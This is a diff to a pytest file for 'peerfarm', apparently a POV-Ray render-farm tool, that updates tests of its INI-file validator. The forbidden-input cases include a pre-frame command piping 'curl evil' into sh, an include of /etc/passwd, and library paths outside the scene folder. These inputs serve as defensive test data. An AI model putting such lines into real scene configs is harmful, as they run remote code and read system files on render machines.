@@ -285,7 +285,7 @@ def test_check_job_returns_the_scenes_frame_range():
             {"scene.ini": b"Input_File_Name=a.pov\nother.ini\n", "a.pov": b""},
             "scene.ini",
             {},
-            "line 2: 'other.ini' is neither Key=Value nor a +/- switch",
+            "line 2: Include_Ini=other.ini is not allowed: POV-Ray would read that INI file too",
         ),
     ],
 )
@@ -309,7 +309,8 @@ def test_allowed_options_reach_povrays_ini():
         "Antialias_Depth=3",
         "Quality=9",
         "Work_Threads=2",
-        "Output_File_Type=N16",
+        "Output_File_Type=N",  # +FN16: PNG with 16 bits per colour
+        "Bits_Per_Color=16",
         "Jitter=off",
         'Output_File_Name="/work/out/frame.png"',
         "Display=off",
@@ -352,13 +353,13 @@ def test_forbidden_options_are_refused_by_name(option):
 @pytest.mark.parametrize(
     ("line", "message"),
     [
-        ("Pre_Frame_Command=curl evil | sh", "shell-out commands"),
-        ("Output_File_Name=/home/me/.bashrc", "peerfarm names the frames itself"),
-        ("Library_Path=/etc", "only its own files"),
-        ("+GA/tmp/all.log", "+GA/tmp/all.log"),
-        ("Start_Row=0.5", "submit with --tiles N"),
-        ("Output_To_File=off", "needs the frames as files"),
-        ("Pretty_Colours=on", "not a setting peerfarm passes to POV-Ray"),
+        ("Pre_Frame_Command=curl evil | sh", "shell-out commands would run programs"),
+        ("+L/etc", "Library_Path=/etc is not allowed: it reaches outside the scene folder"),
+        ("Library_Path=../..", "reaches outside the scene folder"),
+        ("Include_Header=/etc/passwd", "reaches outside the scene folder"),
+        ("Include_Ini=other.ini", "peerfarm reads and checks only the main INI"),
+        ("Pretty_Colours=on", "'Pretty_Colours' is not a setting POV-Ray 3.7 knows"),
+        ("+Z", "POV-Ray 3.7 has no switch +Z"),
     ],
 )
 def test_forbidden_ini_lines_are_refused_with_their_line(line, message):
